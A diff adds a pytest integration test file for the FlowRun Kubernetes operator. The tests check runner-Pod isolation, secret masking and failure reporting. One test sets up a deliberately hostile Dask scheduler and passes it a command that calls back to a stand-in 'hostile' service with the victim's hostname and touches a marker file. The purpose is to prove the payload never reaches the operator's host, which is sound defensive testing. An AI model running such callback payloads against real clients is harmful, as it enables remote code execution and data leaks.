@@ -1,0 +1,217 @@
+"""FlowRuns run in runner Pods on the real node: the trust boundary of docs/install.md.
+
+The operator runs as a host process on the product path (no --allow-in-process) against the
+node's API server; every flow runs in a runner Pod of its FlowRun (the project's image, its own
+ServiceAccount), which writes the run's status itself. Shown here with real Pods: a Dask
+scheduler that attacks its clients reaches only the runner; parametersFrom arrive through the
+kubelet; a runner that cannot start or is killed mid-run; an operator killed mid-run.
+"""
+
+from __future__ import annotations
+
+import json
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from flowrun.dev.operator_process import OperatorProcess
+from flowrun.dev.waiting import wait_for
+from support.flowruns import ROOT, FlowRuns, crd_established
+
+pytestmark = [pytest.mark.controlplane, pytest.mark.node, pytest.mark.slow]
+
+HERE = Path(__file__).resolve().parent
+KINDS = ("jobs", "serviceaccounts", "roles", "rolebindings", "pods")
+
+
+@pytest.fixture(scope="module")
+def node_crd(dev_node: Any) -> None:
+    dev_node.kubectl("apply", "-f", str(ROOT / "crds" / "flowrun.yaml"))
+    wait_for(lambda: crd_established(dev_node.kubectl, "flowruns.flowrun.dev"), what="the CRD")
+
+
+@pytest.fixture
+def operator(
+    dev_node: Any, node_crd: None, node_namespace: str, tmp_path: Path
+) -> Iterator[OperatorProcess]:
+    """The operator, as a host process, on the product path, for this test's namespace."""
+    proc = OperatorProcess(
+        dev_node.node.kubeconfig,
+        tmp_path / "operator.log",
+        ["-n", node_namespace, f"--default-image={dev_node.image}", "--status-interval=0.5"],
+    )
+    proc.start()
+    yield proc
+    proc.stop()
+
+
+@pytest.fixture
+def frs(dev_node: Any, node_namespace: str, tmp_path: Path) -> FlowRuns:
+    return FlowRuns(dev_node.kubectl, node_namespace, tmp_path)
+
+
+def apply(dev_node: Any, namespace: str, *objs: dict[str, Any]) -> None:
+    items = json.dumps({"apiVersion": "v1", "kind": "List", "items": list(objs)})
+    dev_node.kubectl("apply", "-n", namespace, "-f", "-", input=items)
+
+
+def owned_by(frs: FlowRuns, uid: str) -> dict[str, list[str]]:
+    """Every object of KINDS that the FlowRun owns, directly or through its Job."""
+    found: dict[str, list[str]] = {}
+    for kind in KINDS:
+        for item in frs.kubectl.json("get", kind, "-n", frs.namespace)["items"]:
+            labels = item["metadata"].get("labels") or {}
+            refs = item["metadata"].get("ownerReferences", [])
+            if labels.get("flowrun.dev/flowrun-uid") == uid or any(r["uid"] == uid for r in refs):
+                found.setdefault(kind, []).append(item["metadata"]["name"])
+    return found
+
+
+def uid_of(frs: FlowRuns, name: str) -> str:
+    obj = frs.get(name)
+    assert obj is not None
+    return str(obj["metadata"]["uid"])
+
+
+def finished(frs: FlowRuns, name: str, operator: OperatorProcess, timeout: float = 180) -> Any:
+    try:
+        return frs.wait_phase(name, timeout=timeout)
+    except TimeoutError as exc:
+        raise AssertionError(f"{exc}\n{operator.log_text()[-3000:]}") from None
+
+
+def test_a_flow_runs_in_its_runner_pod_and_secrets_come_from_the_kubelet(
+    operator: OperatorProcess, frs: FlowRuns
+) -> None:
+    secret = "s3cr3t-" + uuid.uuid4().hex
+    frs.kubectl("create", "secret", "generic", "creds", "-n", frs.namespace,
+                f"--from-literal=token={secret}")  # fmt: skip
+    spec = {
+        "flow": {
+            "parameters": [{"name": "token", "required": True}],
+            "tasks": [
+                {"name": "where", "fn": "socket:gethostname"},
+                {"name": "size", "fn": "builtins:len", "args": [{"parameter": "token"}]},
+                {"name": "echo", "fn": "builtins:str", "args": [{"parameter": "token"}]},
+            ],
+        },
+        "executor": {"type": "Local"},
+        "parametersFrom": [{"name": "token", "secretKeyRef": {"name": "creds", "key": "token"}}],
+        "returnTasks": ["where", "size", "echo"],
+    }
+    frs.apply("inpod", spec)
+    uid = uid_of(frs, "inpod")
+    status = finished(frs, "inpod", operator)
+    assert status["phase"] == "Succeeded", status
+    job = f"fr-inpod-{uid.replace('-', '')[:8]}-runner"
+    assert status["results"]["where"].startswith(f"{job}-"), status["results"]  # the runner Pod
+    assert status["results"]["size"] == len(secret)
+    assert status["results"]["echo"] == "***"  # masked by the runner, as by the operator
+    reasons = frs.event_reasons("inpod")
+    assert {"RunnerCreated", "Running", "Succeeded"} <= reasons, reasons
+    events = json.dumps(frs.events("inpod"))
+    assert secret not in events
+    assert secret not in json.dumps(frs.get("inpod"))
+    assert secret not in operator.log_text()
+    wait_for(lambda: not owned_by(frs, uid), timeout=120, what="the runner objects to go")
+
+
+def hostile_scheduler(dev_node: Any, namespace: str, command: str) -> None:
+    """A real Dask scheduler (the project's image) that attacks every client that connects."""
+    preload = (HERE / "hostile_scheduler.py").read_text()
+    labels = {"app": "hostile"}
+    config = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "hostile"},
+              "data": {"hostile_scheduler.py": preload}}  # fmt: skip
+    pod = {
+        "apiVersion": "v1",
+        "kind": "Pod",
+        "metadata": {"name": "hostile", "labels": labels},
+        "spec": {
+            "terminationGracePeriodSeconds": 1,
+            "containers": [{
+                "name": "scheduler",
+                "image": dev_node.image,
+                "command": ["dask", "scheduler", "--preload", "/preload/hostile_scheduler.py"],
+                "env": [{"name": "HOSTILE_COMMAND", "value": command}],
+                "volumeMounts": [{"name": "preload", "mountPath": "/preload"}],
+            }],
+            "volumes": [{"name": "preload", "configMap": {"name": "hostile"}}],
+        },
+    }  # fmt: skip
+    service = {
+        "apiVersion": "v1",
+        "kind": "Service",
+        "metadata": {"name": "hostile"},
+        "spec": {"selector": labels, "ports": [{"name": "dask", "port": 8786},
+                                               {"name": "http", "port": 8000}]},
+    }  # fmt: skip
+    apply(dev_node, namespace, config, pod, service)
+
+
+def test_a_hostile_scheduler_reaches_only_the_runner_pod(
+    dev_node: Any, operator: OperatorProcess, frs: FlowRuns, tmp_path: Path
+) -> None:
+    """An External scheduler the FlowRun's author runs sends a pickled payload to its Dask
+    client. The payload reports the host it ran on and would create a file on this host (where
+    the operator runs): only the runner Pod runs it; the operator never talks to it."""
+    marker = tmp_path / "operator-was-attacked"
+    report = (
+        'python -c "import socket, urllib.request; urllib.request.urlopen('
+        f"'http://hostile.{frs.namespace}.svc:8000/ran-in-' + socket.gethostname(), timeout=10)\""
+    )
+    hostile_scheduler(dev_node, frs.namespace, f"{report}; touch {marker}")
+    address = f"tcp://hostile.{frs.namespace}.svc:8786"
+    spec = {
+        "flow": {"tasks": [{"name": "one", "fn": "operator:add", "args": [1, 2]}]},
+        "executor": {"type": "Dask", "dask": {"cluster": "External", "address": address}},
+        "activeDeadlineSeconds": 120,
+    }
+    frs.apply("victim", spec)
+    uid = uid_of(frs, "victim")
+    job = f"fr-victim-{uid.replace('-', '')[:8]}-runner"
+
+    def reported() -> str | None:
+        logs = frs.kubectl("logs", "hostile", "-n", frs.namespace, check=False).stdout
+        lines = [line for line in logs.splitlines() if "GET /ran-in-" in line]
+        return lines[0] if lines else None
+
+    try:
+        line = wait_for(reported, timeout=180, what="the payload to run somewhere")
+    except TimeoutError as exc:
+        raise AssertionError(f"{exc}\n{operator.log_text()[-3000:]}") from None
+    assert f"GET /ran-in-{job}-" in line, line  # in the runner Pod of this FlowRun
+    assert not marker.exists()  # never in the operator's process (nor anywhere on this host)
+    assert "hostile" not in operator.log_text()  # the operator never even connected
+    frs.kubectl("delete", "flowrun", "victim", "-n", frs.namespace, "--wait=false")
+    wait_for(lambda: frs.get("victim") is None, timeout=120, what="the FlowRun to go")
+    wait_for(lambda: not owned_by(frs, uid), timeout=120, what="the runner objects to go")
+    assert not marker.exists()
+
+
+def test_a_runner_that_cannot_start_fails_the_run_with_the_pods_reason(
+    dev_node: Any, operator: OperatorProcess, frs: FlowRuns
+) -> None:
+    missing_image = {"type": "Dask", "dask": {"cluster": "Local",
+                                              "image": "localhost/flowrun/absent:1"}}  # fmt: skip
+    frs.apply("noimage", {"flow": {"tasks": [{"name": "a", "fn": "operator:neg", "args": [1]}]},
+                          "executor": missing_image})  # fmt: skip
+    frs.apply("nosecret", {
+        "flow": {"parameters": [{"name": "p", "required": True}],
+                 "tasks": [{"name": "a", "fn": "builtins:len", "args": [{"parameter": "p"}]}]},
+        "executor": {"type": "Local"},
+        "parametersFrom": [{"name": "p", "secretKeyRef": {"name": "absent", "key": "k"}}],
+    })  # fmt: skip
+    uids = {n: uid_of(frs, n) for n in ("noimage", "nosecret")}
+    image = finished(frs, "noimage", operator)
+    assert image["phase"] == "Failed", image
+    assert "ImagePullBackOff" in image["message"] or "ErrImage" in image["message"], image
+    assert "localhost/flowrun/absent:1" in image["message"]
+    secret = finished(frs, "nosecret", operator)
+    assert secret["phase"] == "Failed", secret
+    assert "Secret 'absent' not found" in secret["message"], secret
+    assert {c["type"]: c for c in secret["conditions"]}["Stalled"]["reason"] == "SecretNotFound"
+    for name, uid in uids.items():
+        wait_for(lambda uid=uid: not owned_by(frs, uid), timeout=120, what=f"{name} cleaned up")
